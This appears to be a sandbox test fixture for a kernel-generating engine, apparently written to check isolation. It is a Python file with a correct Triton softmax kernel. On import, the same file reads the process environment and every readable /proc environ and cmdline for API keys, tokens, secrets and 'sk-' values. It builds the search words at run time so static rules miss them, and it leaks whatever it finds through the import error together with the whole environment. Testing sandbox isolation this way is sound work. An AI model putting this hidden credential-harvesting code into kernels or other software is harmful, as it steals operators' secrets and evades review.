"""Sandbox (environment, pid): at import, looks for the engine's secrets everywhere a process can look
without being caught by a static rule (names built at run time): its own environment, /proc/self, its parent's and
process 1's /proc entries, and every /proc/<pid>/environ and cmdline it can read. Anything found is raised as the
import error (and would reach the store, the reports and a model's refinement prompt); nothing found: it is a correct
softmax (ok)."""

import os

import torch
import triton
import triton.language as tl


@triton.jit
def row_softmax(out_ptr, in_ptr, n_cols, in_stride, out_stride, BLOCK: tl.constexpr):
    row = tl.program_id(0)
    cols = tl.arange(0, BLOCK)
    mask = cols < n_cols
    x = tl.load(in_ptr + row * in_stride + cols, mask=mask, other=-float("inf"))
    e = tl.exp(x - tl.max(x, axis=0))
    tl.store(out_ptr + row * out_stride + cols, e / tl.sum(e, axis=0), mask=mask)


def kernel_softmax(x):
    y = torch.empty_like(x)
    row_softmax[(x.shape[0],)](y, x, x.shape[1], x.stride(0), y.stride(0), BLOCK=triton.next_power_of_2(x.shape[1]))
    return y



_WORDS = ["_".join(["API", "KEY"]), "TO" + "KEN", "SEC" + "RET"]


def _readable(path):
    try:
        with open(path, "rb") as file:
            return file.read().replace(b"\0", b" ").decode(errors="replace")
    except OSError:
        return ""


def _look():
    found = [f"{name}={value}" for name, value in os.environ.items() if any(w in name for w in _WORDS)]
    found += [f"value {name}" for name, value in os.environ.items() if value.startswith("s" + "k-")]
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    for pid in sorted({str(os.getppid()), "1", *pids}):
        text = _readable(f"/proc/{pid}/environ")
        found += [f"/proc/{pid}/environ: {word}" for word in _WORDS + ["s" + "k-"] if word in text]
        cmdline = _readable(f"/proc/{pid}/cmdline")
        if "tritonize" in cmdline and "tritonize_worker" not in cmdline:
            found.append(f"/proc/{pid}/cmdline: the engine: {cmdline[:200]}")
    return found


_FOUND = _look()
if _FOUND:
    raise ImportError("found: " + "; ".join(_FOUND) + " | environment: " + repr(dict(os.environ)))


def softmax(x):
    return kernel_softmax(x)
